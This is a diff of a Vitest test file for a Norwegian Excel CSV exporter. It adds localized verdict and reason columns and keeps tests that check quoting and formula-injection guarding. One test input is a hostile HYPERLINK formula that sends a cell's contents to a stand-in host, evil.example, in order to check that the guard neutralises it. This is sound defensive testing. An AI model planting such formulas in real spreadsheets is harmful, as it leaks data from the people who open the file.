@@ -3,8 +3,11 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { loadBundledDataset } from '../../../src/app/defaultData';
 import { decimalComma, EXCEL_COLUMNS, formatExcelCsv, guardFormula, quoteField } from '../../../src/domain/exportCsvExcel';
 import { siteRows } from '../../../src/domain/siteRows';
+import { fitReasonText, fitWords } from '../../../src/i18n/fit';
 import { commaNumber, parseExcelCsv } from './csvParse';
 import { handRow, reportJsonSites, type ReportJsonSite } from './rowFixture';
+
+const NB = fitWords('nb');
 
 const col = (header: string): number => {
   const i = EXCEL_COLUMNS.findIndex((c) => c.header === header);
@@ -13,7 +16,7 @@ const col = (header: string): number => {
 };
 
 describe('formatExcelCsv: the file format a Norwegian Excel opens', () => {
-  const text = formatExcelCsv([handRow()]);
+  const text = formatExcelCsv([handRow()], NB);
 
   it('starts with a UTF-8 BOM, then the Norwegian header joined by semicolons', () => {
     expect(text.charCodeAt(0)).toBe(0xfeff);
@@ -44,9 +47,19 @@ describe('formatExcelCsv: the file format a Norwegian Excel opens', () => {
     expect(row?.[col('Ledig fra år')]).toBe('2030');
     expect(row?.[col('Midtpunkt lengdegrad')]).toBe('10,412346');
     expect(row?.[col('Ledig')]).toBe('ja');
-    expect(row?.[col('ABC-vurdering')]).toBe('passer delvis');
+    // The verdict in the label form of every surface (src/i18n/fit.ts), the reason as the UI gives it.
+    expect(row?.[col('ABC-vurdering')]).toBe('Passer delvis');
+    expect(row?.[col('Begrunnelse')]).toBe(fitReasonText(handRow().fit, 'nb'));
+    expect(row?.[col('Begrunnelse')]).toContain('1,2 km fra nærmeste togstasjon (Røyken stasjon)');
     expect(decimalComma(0.5, 0)).toBe('1');
     expect(decimalComma(1234567.891, 2)).toBe('1234567,89');
+  });
+
+  it('writes the fit words the caller passes in, quoted like any text', () => {
+    const words = { verdict: () => 'dom; med semikolon', reason: () => '=grunn' };
+    const [, row] = parseExcelCsv(formatExcelCsv([handRow()], words).slice(1));
+    expect(row?.[col('ABC-vurdering')]).toBe('dom; med semikolon');
+    expect(row?.[col('Begrunnelse')]).toBe("'=grunn");
   });
 
   it('quotes a field with a semicolon, a quote or a line break, and leaves empty values empty', () => {
@@ -54,18 +67,17 @@ describe('formatExcelCsv: the file format a Norwegian Excel opens', () => {
     expect(quoteField('Sjøgata "Nord"')).toBe('"Sjøgata ""Nord"""');
     expect(quoteField('to\nlinjer')).toBe('"to\nlinjer"');
     expect(quoteField('a,b')).toBe('a,b');
-    const noHub = formatExcelCsv([handRow({ hub: null, hubCentroidDistanceM: null, nearestByType: {}, region: null })]);
+    const noHub = formatExcelCsv([handRow({ hub: null, hubCentroidDistanceM: null, nearestByType: {}, region: null })], NB);
     const [, row] = parseExcelCsv(noHub.slice(1));
     expect(row?.[col('Nærmeste knutepunkt')]).toBe('');
     expect(row?.[col('Avstand til togstasjon (m)')]).toBe('');
     expect(row?.[col('Region')]).toBe('');
-    expect(text).toContain(';"grunn; med semikolon";');
   });
 
   it('neutralises text a spreadsheet would run as a formula, and only that', () => {
     for (const evil of ['=1+1', '+47 999', '-2', '@SUM(A1)', '\t=1', '\r=1']) expect(guardFormula(evil)).toBe(`'${evil}`);
     for (const fine of ['Asker', 'a=b', ' =1', '1-2', '']) expect(guardFormula(fine)).toBe(fine);
-    const hostile = formatExcelCsv([handRow({ id: '-S1', name: '=HYPERLINK("http://evil.example/?"&A1;"Klikk")', region: '@region' })]);
+    const hostile = formatExcelCsv([handRow({ id: '-S1', name: '=HYPERLINK("http://evil.example/?"&A1;"Klikk")', region: '@region' })], NB);
     const [, row] = parseExcelCsv(hostile.slice(1));
     expect(row?.[col('ID')]).toBe("'-S1");
     expect(row?.[col('Navn')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1;"Klikk")`);
@@ -84,7 +96,7 @@ describe('formatExcelCsv on the bundled data: the same numbers as `npm run repor
     report = await reportJsonSites();
     // The app's path: the bundled files through the app's loader and engine, then the shared rows.
     const dataset = loadBundledDataset();
-    const [, ...body] = parseExcelCsv(formatExcelCsv(siteRows(dataset.sites, dataset.results, dataset.hubs)).slice(1));
+    const [, ...body] = parseExcelCsv(formatExcelCsv(siteRows(dataset.sites, dataset.results, dataset.hubs), NB).slice(1));
     rows = body;
   });
 
